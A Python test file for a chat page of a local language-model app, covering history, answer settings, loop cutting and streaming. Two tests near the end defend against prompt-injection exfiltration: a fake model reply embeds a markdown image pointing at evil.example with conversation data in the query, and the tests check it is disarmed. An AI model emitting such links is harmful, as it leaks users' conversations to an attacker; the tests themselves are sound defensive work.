from types import SimpleNamespace

from core.model import loops
from tests.support.fakes import FakeChatModel
from views.support import resources, widgets


def send(at, text: str):
    at.chat_input(key="chat_input").set_value(text).run()
    return at


def messages(at) -> list[tuple[str, str]]:
    return [(m.name, " ".join(md.value for md in m.markdown)) for m in at.chat_message]


def test_chat_page_smoke_with_the_real_tiny_model(open_page) -> None:
    at = open_page("views/chat.py")
    assert not at.exception and not at.error
    assert at.title[0].value == "Chat"
    send(at, "What is the capital of France?")
    assert not at.exception
    assert [name for name, _ in messages(at)] == ["user", "assistant"]
    assert any("tokens/s" in c.value for c in at.caption)


def test_streamed_answer_is_shown_and_kept_in_history(open_page, fake_model: FakeChatModel) -> None:
    at = send(open_page("views/chat.py"), "What is the capital of France?")
    assert not at.exception
    assert messages(at) == [
        ("user", "What is the capital of France?"),
        ("assistant", "The capital of France is Paris."),
    ]
    send(at, "And Germany?")
    assert messages(at)[2:] == [
        ("user", "And Germany?"),
        ("assistant", "Berlin is the capital of Germany."),
    ]
    history = at.session_state["chat_messages"]
    assert [turn["role"] for turn in history] == ["user", "assistant", "user", "assistant"]
    assert "tokens/s" in history[1]["timings"]
    # The second question went to the model with the whole conversation before it.
    asked, _params, system = fake_model.calls[-1]
    assert [m["content"] for m in asked] == [
        "What is the capital of France?",
        "The capital of France is Paris.",
        "And Germany?",
    ]
    assert system == at.session_state["chat_system_prompt"]


def test_answer_settings_are_used(open_page, fake_model: FakeChatModel) -> None:
    at = open_page("views/chat.py")
    at.slider(key="chat_temperature").set_value(0.0)
    at.number_input(key="chat_max_new_tokens").set_value(64)
    at.text_area(key="chat_system_prompt").set_value("Talk like a pirate.")
    send(at, "Hello")
    _, params, system = fake_model.calls[-1]
    assert (params.temperature, params.max_new_tokens, system) == (0.0, 64, "Talk like a pirate.")
    assert params.repetition_penalty is None  # the model's own, until the user sets one
    at.number_input(key="chat_repetition_penalty").set_value(1.2)
    send(at, "Again")
    assert fake_model.calls[-1][1].repetition_penalty == 1.2


def test_an_answer_that_loops_is_cut_and_marked(open_page, fake_model: FakeChatModel) -> None:
    fake_model.replies = ["I am Captain" + " die für die Bahn," * 40]
    at = send(open_page("views/chat.py"), "Who are you?")
    assert not at.exception
    assert messages(at)[-1] == ("assistant", "I am Captain die für die Bahn, …")
    assert any(loops.NOTICE in w.value for w in at.warning)
    assert at.session_state["chat_messages"][-1]["notices"] == [loops.NOTICE]


def test_new_chat_clears_the_conversation(open_page, fake_model: FakeChatModel) -> None:
    at = send(open_page("views/chat.py"), "What is the capital of France?")
    assert len(at.chat_message) == 2
    at.button(key="chat_new").click().run()
    assert len(at.chat_message) == 0
    assert at.session_state["chat_messages"] == []


def test_an_empty_message_does_nothing(open_page, fake_model: FakeChatModel) -> None:
    at = send(open_page("views/chat.py"), "   ")
    assert len(at.chat_message) == 0
    assert fake_model.calls == []


def test_a_cut_message_shows_its_notice(open_page, monkeypatch, studio_env) -> None:

    notice = "Your message was too long for the model: only its first 10 of 99 tokens were used."
    monkeypatch.setattr(resources, "build_chat_model", lambda s: FakeChatModel(["ok"], [notice]))
    at = send(open_page("views/chat.py"), "long " * 50)
    assert [w.value.replace("\\", "") for w in at.warning] == [notice]
    assert at.session_state["chat_messages"][-1]["notices"] == [notice]


def test_an_unavailable_model_gives_one_plain_sentence(open_page, monkeypatch) -> None:
    monkeypatch.setenv("LRS_BASE_MODEL", "someone/not-downloaded-model")
    monkeypatch.setenv("LRS_OFFLINE", "1")
    at = open_page("views/chat.py")
    assert not at.exception
    assert len(at.error) == 1 and "not on this machine" in at.error[0].value
    assert len(at.chat_input) == 0  # the page stopped before offering a chat


def test_an_image_in_an_answer_is_shown_as_a_link_and_never_loaded(open_page, fake_model) -> None:
    # What a prompt injection in a document would ask for: the reader's browser fetching an
    # address that carries the conversation.
    fake_model.replies = ["See ![chart](https://evil.example/?q=secret) here."]
    at = send(open_page("views/chat.py"), "Show me")
    streamed = messages(at)[1][1]
    assert "![" not in streamed and "!\u200b[chart](https://evil.example/?q=secret)" in streamed
    again = send(at, "Again")  # the answer shown again from the history
    assert "![" not in messages(again)[1][1]


def test_an_image_split_across_pieces_is_disarmed_too() -> None:
    pieces = ["Look!", "[x](https://evil.example/a) and !", "[y](b) ![z](c)"]
    assert "![" not in "".join(widgets.answer_pieces(pieces))
    assert "".join(widgets.answer_pieces(pieces)).replace("\u200b", "") == "".join(pieces)


def test_a_growing_answer_is_drawn_at_most_ten_times_a_second(monkeypatch) -> None:
    # Drawn at every token, the browser took half of a 2-core machine's second core.
    clock = [0.0]
    monkeypatch.setattr(widgets, "time", SimpleNamespace(monotonic=lambda: clock[0]))

    def arriving(times: list[float]):  # type: ignore[no-untyped-def]
        for n, at in enumerate(times):
            clock[0] = at
            yield f"<{n}>"

    times = [0.0, 0.03, 0.06, 0.12, 0.15, 0.18, 0.5]
    updates = list(widgets.in_updates(arriving(times)))
    # The first piece at once; then one update per tenth of a second; the rest at the end.
    assert updates == ["<0>", "<1><2><3>", "<4><5><6>"]
    assert "".join(updates) == "".join(f"<{n}>" for n in range(len(times)))
